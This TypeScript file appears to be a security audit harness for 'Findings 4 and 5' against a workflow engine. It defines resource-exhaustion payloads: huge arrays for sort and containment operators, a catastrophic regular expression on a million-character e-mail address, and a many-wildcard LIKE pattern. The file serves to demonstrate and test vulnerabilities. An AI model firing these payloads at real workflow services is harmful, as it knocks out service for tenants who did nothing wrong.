// Findings 4 and 5: what a caller's payload alone does to workflows whose authors did nothing wrong.

import type { JsonObject, JsonValue } from "@bufbuild/protobuf";
import type { Attack } from "../attack.ts";
import { publishLine } from "../tenants.ts";

const numbers = (count: number) => Array.from({ length: count }, () => Math.random());
const emptyObjects = (count: number) => Array.from({ length: count }, () => ({}));
const objects = (count: number) => Array.from({ length: count }, (_, index) => ({ a: index }));

const compare = (left: string, operator: string, right: string): JsonObject => ({
  rule: { comparisons: [{ left, operator, right }] },
});

const words = (count: number) => Array.from({ length: count }, (_, index) => `word${index}`).join(",");

export const payloads: readonly Attack[] = [
  payloadAttack("4", "$sort of 49,000 numbers", transform('{ "top": $sort(items)[0] }'), () => ({
    items: numbers(49_000),
  })),
  payloadAttack("4b", "^( ) of 49,000 numbers", transform('{ "top": items^($)[0] }'), () => ({
    items: numbers(49_000),
  })),
  payloadAttack(
    "4c",
    "$sort with a function, $reverse and $shuffle of 49,000 numbers",
    [...transform("$sort(items, function($l, $r) { $l > $r })[0]"), ...transform("$reverse($shuffle(items))[0]")],
    () => ({ items: numbers(49_000) }),
  ),
  payloadAttack(
    "5",
    "contains, 1,000 × {} against 24,000 objects",
    [compare("{{event.body.tags}}", "contains", "{{event.body.tag}}")],
    () => ({ tags: emptyObjects(1_000), tag: objects(24_000) }),
  ),
  payloadAttack(
    "5b",
    "included_in a list of 1,000 words, of 24,000 objects",
    [compare("{{event.body.country}}", "included_in", words(1_000))],
    () => ({ country: objects(24_000) }),
  ),
  payloadAttack(
    "5c",
    "a regular expression on a long e-mail address",
    [...transform("$contains(email, /[\\w.+-]{1,64}@[\\w-]{1,63}(\\.[\\w-]{1,63}){1,3}/)")],
    () => ({ email: `. @${"a".repeat(1_040_000)}` }),
  ),
  payloadAttack(
    "5d",
    "not_contains, eq, neq and not_included_in of large containers, 200 in a Rule",
    [
      {
        rule: {
          match: "ANY",
          comparisons: ["not_contains", "eq", "neq", "not_included_in"].flatMap((operator) =>
            Array.from({ length: 50 }, () => ({
              left: "{{event.body.tag}}",
              operator,
              right: operator === "not_included_in" ? words(100) : "{{event.body.other}}",
            })),
          ),
        },
      },
    ],
    () => ({ tag: objects(12_000), other: objects(12_000) }),
  ),
  payloadAttack(
    "5e",
    "like with many wildcards against a long text",
    [compare("{{event.body.text}}", "like", `${"%a".repeat(200)}%b`)],
    () => ({ text: "a".repeat(1_000_000) }),
  ),
];

function transform(query: string): readonly JsonObject[] {
  return [{ transform: { query } }];
}

/** Calls one workflow synchronously, one call after the other. */
function payloadAttack(id: string, title: string, nodes: readonly JsonObject[], payload: () => JsonValue): Attack {
  return {
    id,
    title,
    prepare: async ({ tenant }) => {
      await publishLine(tenant, `payload-${id}`, nodes);
      return {};
    },
    run: async (attacker) => {
      const text = JSON.stringify(payload());
      await attacker.repeat(1, () => attacker.callText(`payload-${id}`, text, { sync_execution: "true" }));
    },
  };
}
